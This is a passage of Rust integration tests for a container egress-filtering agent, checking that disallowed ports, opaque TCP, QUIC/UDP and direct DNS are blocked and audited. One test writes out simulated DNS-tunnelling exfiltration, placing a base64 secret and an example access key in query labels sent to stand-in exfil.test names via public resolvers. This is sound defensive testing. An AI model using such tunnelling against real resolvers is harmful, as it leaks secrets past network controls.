        "direct binary reached WEB1"
    );
    let c = curl(&topo, &["http://allowed.test:8080/"], &[]);
    assert_eq!(c.status, 200, "{c:?}");
    let c = curl(&topo, &["--cacert", &ca, "https://allowed.test:8443/"], &[]);
    assert_eq!(c.status, 200, "{c:?}");
    let p = topo.probe(&[
        "tcp",
        "198.51.100.10:7",
        "--send",
        "hi",
        "--shut-wr",
        "--read",
    ]);
    assert_eq!(p["reply"], "hi", "{p}");

    let _agent = Agent::attach(&topo, &test_policy(&[]));
    let _threat0 = egress_tests::threat_guard(
        "C",
        "non-HTTP bytes to an allowed host; an allowed host on an unlisted port",
    );
    // The container resolved allowed.test through the agent; still, bytes that are neither
    // TLS nor HTTP to it are opaque TCP, allowed only by a host:port rule.
    let d = topo.probe(&["dns", "203.0.113.53", "allowed.test"]);
    assert_eq!(d["ips"], serde_json::json!(["198.51.100.10"]), "{d}");
    let before = net.connections_to(WEB1.into()).len();
    let r = raw(&topo, &w1(), 80, binary, 0, true);
    assert!(was_reset(&r), "binary to allowed.test:80: {r:?}");
    // Port 8080 / 8443 are not in `allowed.test` (= 80 and 443).
    let c = curl(&topo, &["http://allowed.test:8080/"], &[]);
    assert_curl_contract(
        "allowed.test:8080",
        &c,
        "port_not_allowed",
        "allowed.test",
        8080,
    );
    let r = raw(
        &topo,
        &w1(),
        8443,
        &client_hello(Some(b"allowed.test"), 0),
        0,
        false,
    );
    assert_eq!(
        r.tls_alert(),
        Some((2, ALERT_ACCESS_DENIED)),
        "allowed.test:8443: {r:?}"
    );
    let c = curl(
        &topo,
        &["--cacert", &ca, "https://allowed.test:8443/"],
        &[("HTTPS_PROXY", PROXY)],
    );
    assert!(c.stderr.contains("response 403"), "{c:?}");
    assert_eq!(net.connections_to(WEB1.into()).len(), before);

    // Opaque TCP allowed by an explicit host:port rule, after resolving through the agent.
    let d = topo.probe(&["dns", "203.0.113.53", "cdn.test"]);
    assert_eq!(d["ips"], serde_json::json!(["198.51.100.10"]), "{d}");
    let p = topo.probe(&[
        "tcp",
        "198.51.100.10:7",
        "--send",
        "hi",
        "--shut-wr",
        "--read",
    ]);
    assert_eq!(p["reply"], "hi", "cdn.test:7 echo: {p}");
    // ...but not on another port of the same name.
    let p = topo.probe(&["tcp", "198.51.100.10:25", "--read", "--timeout-ms", "3000"]);
    assert_ne!(p["reply"], BANNER, "cdn.test:25: {p}");
}

// ---------------------------------------------------------------------------------------------
// THREATS D: other channels.
// ---------------------------------------------------------------------------------------------

#[test]
fn direct_dns_to_outside_resolvers_and_tunnelling_never_leave() {
    require_root!();
    let topo = Topology::new("icpt_dns");
    let net = topo.start_fakenet();
    let d = topo.probe(&["dns", "203.0.113.53", "direct.exfil.test"]);
    assert_eq!(d["ips"], serde_json::json!(["203.0.113.10"]), "{d}");
    let d = topo.probe(&["dns", "203.0.113.53", "tcp.exfil.test", "--tcp"]);
    assert_eq!(d["ips"], serde_json::json!(["203.0.113.10"]), "{d}");

    let _agent = Agent::attach(&topo, &test_policy(&[]));
    let _threat0 = egress_tests::threat_guard(
        "D",
        "direct DNS over UDP and TCP to outside resolvers; tunnelling labels; non-address records",
    );
    let label = "a".repeat(63);
    let long = format!("{label}.{label}.{label}.exfil.test");
    let secrets = [
        "c2VjcmV0LWtleS0xMjM0.exfil.test".to_string(),
        "AKIAIOSFODNN7EXAMPLE.t1.exfil.test".to_string(),
        long,
    ];
    let resolvers = [
        "203.0.113.53",
        "8.8.8.8",
        "10.255.255.53",
        "2001:4860:4860::8888",
    ];
    for s in &secrets {
        for r in resolvers {
            for extra in [&[][..], &["--tcp"], &["--connected"]] {
                let mut args = vec!["dns", r, s.as_str()];
                args.extend_from_slice(extra);
                let d = topo.probe(&args);
                assert!(steered(&d), "{r} {extra:?}: {d}");
                if extra.is_empty() {
                    // The reply seems to come from the resolver the client asked.
                    let from: std::net::SocketAddr = d["from"].as_str().unwrap().parse().unwrap();
                    assert_eq!(from.ip().to_string(), r, "{d}");
                }
            }
        }
        assert!(
            !net.was_queried(s.split('.').next().unwrap()),
            "{s} was forwarded"
        );
    }
    for r in resolvers {
        let d = topo.probe(&["dns", r, "allowed.test"]);
        assert_eq!(d["ips"], serde_json::json!(["198.51.100.10"]), "{r}: {d}");
    }
    // Only addresses leave: no TXT/MX/... even for an allowed name.
    let d = topo.probe(&["dns", "8.8.8.8", "allowed.test", "--type", "TXT"]);
    assert_eq!(d["answers"], serde_json::json!([]), "{d}");
    assert!(net.queries().iter().all(|q| q["type"] != "TXT"));
    // A real client (dig), over UDP and TCP.
    for tcp in ["+notcp", "+tcp"] {
        let out = topo
            .ctr_command("dig")
            .args(["@8.8.8.8", tcp, "+time=3", "+tries=1", "leak.exfil.test"])
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("status: NOERROR"), "dig {tcp}: {text}");
        assert!(text.contains("192.0.2.1"), "dig {tcp}: {text}");
        assert!(
            text.contains("egress-agent: "),
            "dig shows the EDE {tcp}: {text}"
        );
    }
    assert!(!net.was_queried("leak.exfil.test"));
}

#[test]
fn quic_and_other_udp_fail_at_once_with_eperm() {
    require_root!();
    let topo = Topology::new("icpt_quic");
    let _net = topo.start_fakenet();
    let p = topo.probe(&["udp-sendto", "198.51.100.10:443", "--expect-reply"]);
    assert_eq!(p["ok"], true, "direct QUIC stand-in: {p}");

    let _agent = Agent::attach(&topo, &test_policy(&[]));
    let _threat0 = egress_tests::threat_guard("D", "QUIC / HTTP3 and other UDP");
    for op in ["udp-sendto", "udp-connect-send", "udp-sendmmsg"] {
        for target in ["198.51.100.10:443", "[2001:db8:100::10]:443"] {
            let t = std::time::Instant::now();
            let p = topo.probe(&[op, target, "--expect-reply"]);
            assert_eq!(p["errno"], EPERM, "{op} {target}: {p}");
            assert!(
                t.elapsed() < std::time::Duration::from_secs(2),
                "{op}: slow failure"
            );
        }
    }
    // curl's HTTP/3 (when built with it) must fall back or fail fast too; python has no QUIC.
    let v = python(
        &topo,
        "import socket,json\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ntry:\n s.sendto(b'\\xc0quic',('198.51.100.10',443)); print(json.dumps({'errno':None}))\nexcept OSError as e: print(json.dumps({'errno':e.errno}))",
        &[],
        &[],
    );
    assert_eq!(v["errno"], EPERM, "{v}");
}

// ---------------------------------------------------------------------------------------------
// What the sandbox and the operator see: the status page and the audit log.
// ---------------------------------------------------------------------------------------------

#[test]
fn audit_log_has_one_record_per_decision_with_every_field() {
    require_root!();
    let topo = Topology::new("icpt_audit");
    let _net = topo.start_fakenet();
    let agent = Agent::attach(&topo, &test_policy(&[]));
    // Six decisions, no DNS lookups in between (addresses are given).
    let r = http_to(&topo, WEB1, 80, "allowed.test");
    assert_eq!(r.http_status(), Some(200), "{r:?}");
    let r = http_to(&topo, WEB2, 80, "other.test");
    assert_eq!(r.http_status(), Some(403), "{r:?}");
    let r = raw(
        &topo,
        "198.51.100.11",
        443,
        &client_hello(Some(b"other.test"), 0),
        0,
        false,
    );
    assert!(r.tls_alert().is_some(), "{r:?}");
    let p = topo.probe(&["tcp", "198.51.100.11:7", "--send", "hi", "--read"]);
    assert_eq!(p["errno"], ECONNRESET, "{p}");
    let d = topo.probe(&["dns", "203.0.113.53", "other.test"]);
    assert!(steered(&d), "{d}");
    let p = topo.probe(&["udp-sendto", "198.51.100.10:443"]);
    assert_eq!(p["errno"], EPERM, "{p}");

    let recs = agent.audit_records(6);
    std::thread::sleep(std::time::Duration::from_millis(300));
    let recs2 = agent.audit_records(6);
    assert_eq!(recs.len(), 6, "exactly one record per decision: {recs:#?}");
    assert_eq!(recs2.len(), 6, "late records: {recs2:#?}");
    let always = [
        "time",
        "cgroup_id",
        "profile",
        "pid",
        "comm",
        "orig_dst",
        "protocol",
        "decision",
        "rule",
        "bytes_up",
        "bytes_down",
        "duration_ms",
    ];
    for r in &recs {
        for f in always {
            assert!(r.get(f).is_some(), "field {f} missing: {r}");
        }
        assert_eq!(r["profile"], "default", "{r}");
        assert!(r["cgroup_id"].as_u64().unwrap() > 0, "{r}");
        if r["decision"] != "allow" {
            assert!(r["code"].is_string() && r["reason"].is_string(), "{r}");
        }
    }
    let find = |proto: &str| {
        recs.iter()
            .find(|r| r["protocol"] == proto)
            .unwrap_or_else(|| panic!("no {proto} record: {recs:#?}"))
    };
    let allow = recs.iter().find(|r| r["decision"] == "allow").unwrap();
    assert_eq!(allow["name"], "allowed.test");
    assert_eq!(allow["orig_dst"], "198.51.100.10:80");
    assert_eq!(allow["comm"], "python3");
    assert!(
        allow["rule"]
            .as_str()
            .unwrap()
            .starts_with("profile.default.allow"),
        "{allow}"
    );
    assert!(allow["upstream"].is_string(), "{allow}");
    assert!(allow["bytes_down"].as_u64().unwrap() > 0, "{allow}");
    assert_eq!(find("tls")["code"], "host_not_allowed");
    assert_eq!(find("opaque")["code"], "protocol_not_allowed");
    assert_eq!(find("dns")["name"], "other.test");
    assert_eq!(find("kernel")["orig_dst"], "198.51.100.10:443");
    assert_eq!(find("kernel")["comm"], "probe");
}

#[test]
fn status_page_shows_the_containers_own_denials_not_the_allowlist() {
    require_root!();
    let topo = Topology::new("icpt_status");
    let _net = topo.start_fakenet();
    let _agent = Agent::attach(&topo, &test_policy(&["secret-partner.test"]));
    let _threat0 = egress_tests::threat_guard(
        "E",
        "status page does not leak the allowlist or other containers' denials",
    );
    let r = http_to(&topo, WEB2, 80, "other.test");
    assert_eq!(r.http_status(), Some(403));
    let d = topo.probe(&["dns", "203.0.113.53", "leak.exfil.test"]);
    assert!(steered(&d), "{d}");
    for url in ["http://egress.internal/status", "http://192.0.2.1/status"] {
        let c = curl(&topo, &[url], &[]);
        assert_eq!(c.status, 200, "{url}: {c:?}");
        let v = c.json();
        let recent = v["recent_denials"]
            .as_array()
            .unwrap_or_else(|| panic!("{v}"));
        let other = recent
            .iter()
            .find(|r| r["name"] == "other.test")
            .unwrap_or_else(|| panic!("other.test not listed: {v}"));
        assert_eq!(other["code"], "host_not_allowed", "{other}");
        assert!(
            other["reason"].as_str().unwrap().contains("other.test"),
            "{other}"
        );
        assert!(recent.iter().any(|r| r["name"] == "leak.exfil.test"), "{v}");
        // The allowlist is an exfiltration map: never shown.
        for secret in [
            "secret-partner.test",
            "cdn.test",
            "*.allowed.test",
            "rebind.test",
        ] {
            assert!(!c.body.contains(secret), "{secret} leaked: {}", c.body);
        }
    }
}
